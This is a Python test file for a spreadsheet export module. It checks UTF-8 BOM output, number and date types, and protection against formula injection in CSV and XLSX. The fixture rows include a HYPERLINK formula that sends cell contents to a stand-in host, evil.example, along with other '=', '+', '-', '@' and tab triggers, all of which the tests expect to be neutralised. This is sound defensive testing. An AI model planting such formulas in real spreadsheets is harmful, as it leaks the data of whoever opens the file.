"""Exports for Excel: a BOM, real numbers and dates, and no formula injection in CSV or XLSX."""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path

import openpyxl

from exchange.spreadsheet import csv_chunks, write_csv, write_xlsx

HEADER = ["opportunity", "title", "seats", "starts_at"]
STARTS = dt.datetime(2030, 10, 1, 1, 0, tzinfo=dt.UTC)  # 08:00 in Hà Nội
ROWS = [
    ["O1", '=HYPERLINK("http://evil.example/?"&A1,"xem")', 30, STARTS],
    ["O2", "+84 912 345 678", -2, None],
    ["O3", "-1+1", 1.5, dt.date(2030, 10, 2)],
    ["O4", "@SUM(A1:A2)", True, None],
    ["O5", "Tham quan nhà máy – Bắc Ninh", 0, None],
    ["O6", "\tcmd", 0, None],
]


def test_csv_starts_with_a_bom_and_neutralises_formula_like_text_only() -> None:
    chunks = list(csv_chunks(HEADER, iter(ROWS)))
    text = "".join(chunks)

    assert len(chunks) == 1 + len(ROWS)  # one chunk a row: streams
    assert text.startswith("\ufeffopportunity,title,seats,starts_at\r\n")
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))[1:]
    assert [r[1] for r in rows] == [
        '\'=HYPERLINK("http://evil.example/?"&A1,"xem")',
        "'+84 912 345 678",
        "'-1+1",
        "'@SUM(A1:A2)",
        "Tham quan nhà máy – Bắc Ninh",
        "'\tcmd",
    ]
    assert [r[2] for r in rows] == ["30", "-2", "1.5", "true", "0", "0"]  # numbers stay numbers
    assert rows[0][3] == "2030-10-01T08:00+07:00"
    assert rows[2][3] == "2030-10-02"


def test_write_csv_writes_utf8_with_a_bom(tmp_path: Path) -> None:
    path = tmp_path / "report.csv"

    assert write_csv(path, HEADER, ROWS) == len(ROWS)
    assert path.read_bytes().startswith(b"\xef\xbb\xbfopportunity,")


def test_xlsx_keeps_text_as_text_never_a_formula(tmp_path: Path) -> None:
    path = tmp_path / "report.xlsx"

    assert write_xlsx(path, HEADER, iter(ROWS + [["O7", "bell\x07", 1, None]]), title="Tuần 1–7/10") == 7

    book = openpyxl.load_workbook(path)
    sheet = book.active
    assert sheet is not None and sheet.title == "Tuần 1–7-10"  # "/" is not allowed in a sheet title
    cells = list(sheet.iter_rows(min_row=2))
    assert all(row[1].data_type == "s" for row in cells)
    assert cells[0][1].value == '=HYPERLINK("http://evil.example/?"&A1,"xem")'
    assert [row[1].quotePrefix for row in cells] == [True, True, True, True, False, True, False]
    assert cells[6][1].value == "bell\ufffd"
    assert [row[2].value for row in cells] == [30, -2, 1.5, True, 0, 0, 1]
    assert cells[0][3].value == dt.datetime.combine(dt.date(2030, 10, 1), dt.time(8, 0))  # local: Excel has no zones
    assert sheet["A1"].font.b and sheet.freeze_panes == "A2"


def test_xlsx_goes_to_a_binary_handle() -> None:
    buffer = io.BytesIO()

    write_xlsx(buffer, ["a"], [["x"]])

    assert buffer.getvalue().startswith(b"PK\x03\x04")
